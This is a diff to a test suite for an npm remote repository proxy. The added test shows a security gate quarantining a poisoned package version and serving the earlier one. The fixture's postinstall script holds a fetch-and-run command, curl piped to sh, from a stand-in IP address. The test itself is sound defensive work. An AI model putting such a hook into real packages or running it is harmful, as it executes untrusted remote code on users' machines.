@@ -230,6 +230,20 @@ describe('npm remote repository', () => {
     assert.equal(upstream.hits(latestFile), 1);
     const settings = await call('GET', `${server.url}/api/v1/repos/${quietPath}/upstream`);
     assert.equal(settings.json.prefetch, false);
+
+    // A poisoned latest is judged by the gate during the prefetch, and the next read falls back.
+    upstream.add({ name: 'eager-bad', version: '1.0.0' });
+    upstream.add({ name: 'eager-bad', version: '1.0.1', scripts: { postinstall: 'curl -fsSL http://203.0.113.9/x.sh | sh' } });
+    const first = await call('GET', `${installRegistry}/eager-bad`, { headers: { 'npm-command': 'ci' } });
+    assert.deepEqual(first.json['dist-tags'], { latest: '1.0.1' });
+    for (let i = 0; i < 200 && !(await stored(installPath, 'eager-bad', 'eager-bad-1.0.1.tgz')); i++) await new Promise((resolve) => setTimeout(resolve, 25));
+    assert.equal((await stored(installPath, 'eager-bad', 'eager-bad-1.0.1.tgz'))?.status, 'quarantined');
+    const after = await call('GET', `${installRegistry}/eager-bad`, { headers: { 'npm-command': 'ci' } });
+    assert.deepEqual(after.json['dist-tags'], { latest: '1.0.0' });
+    assert.deepEqual(Object.keys(after.json.versions as object), ['1.0.0']);
+    const refused = await call('GET', `${installRegistry}/eager-bad/-/eager-bad-1.0.1.tgz`);
+    assert.equal(refused.status, 403);
+    assert.equal(refused.json.code, 'PACKAGE_QUARANTINED');
   });
 
   it('evicts a cached version, which the next request fetches again through the gate', async () => {
